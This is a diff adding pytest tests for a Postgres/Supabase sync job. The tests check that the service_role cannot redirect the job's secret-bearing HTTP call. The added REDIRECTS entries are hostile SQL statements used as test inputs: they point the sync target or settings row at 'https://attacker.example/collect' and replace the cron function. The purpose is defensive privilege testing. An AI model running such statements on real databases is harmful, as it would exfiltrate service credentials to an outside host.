@@ -124,3 +124,54 @@ def test_a_role_that_may_not_read_vault_still_queues(supabase_like: psycopg.Conn
     supabase_like.execute("commit")
     assert row == (True,)
     assert calls(supabase_like) == []
+
+
+REDIRECTS = {
+    "configure another url and secret": (
+        "select sync_configure_http('https://attacker.example/collect', 'other')"
+    ),
+    "configure only the secret name": f"select sync_configure_http('{FUNCTION_URL}', 'other')",
+    "write the settings row": (
+        "update sync_ai_models.settings set function_url = 'https://attacker.example/collect'"
+    ),
+    "replace the job's command": (
+        "create or replace function public.sync_cron_run() returns uuid language sql "
+        "as $$ select null::uuid $$"
+    ),
+}
+
+
+@pytest.mark.parametrize("statement", REDIRECTS.values(), ids=REDIRECTS.keys())
+def test_service_role_cannot_choose_where_the_secret_goes(
+    supabase_like: psycopg.Connection, statement: str
+) -> None:
+    supabase_like.execute("begin")
+    supabase_like.execute("set local role service_role")
+    with pytest.raises(psycopg.errors.InsufficientPrivilege):
+        supabase_like.execute(statement)
+    supabase_like.execute("rollback")
+    # the job, run as the owner, still POSTs the owner's choice: its URL, its secret
+    supabase_like.execute("select sync_cron_run()")
+    [(url, _, _, headers, _)] = calls(supabase_like)
+    assert (url, headers["Authorization"]) == (FUNCTION_URL, "Bearer service-key-from-vault")
+
+
+def test_the_owner_configures_the_target(supabase_like: psycopg.Connection) -> None:
+    owner_url = "https://other-project.supabase.co/functions/v1/sync-ai-models"
+    row = supabase_like.execute("select sync_configure_http(%s, 'other', 2000)", (owner_url,))
+    assert row.fetchone() == (
+        {
+            "function_url": owner_url,
+            "vault_secret_name": "other",
+            "http_timeout_ms": 2000,
+            "pg_net": True,
+        },
+    )
+    supabase_like.execute("select sync_cron_run()")
+    [(url, _, _, headers, timeout)] = calls(supabase_like)
+    assert (url, headers["Authorization"], timeout) == (owner_url, "Bearer not-this-one", 2000)
+
+
+def test_an_empty_secret_name_is_refused(supabase_like: psycopg.Connection) -> None:
+    with pytest.raises(psycopg.errors.InvalidParameterValue, match="secret name"):
+        supabase_like.execute("select sync_configure_http(%s, ' ')", (FUNCTION_URL,))
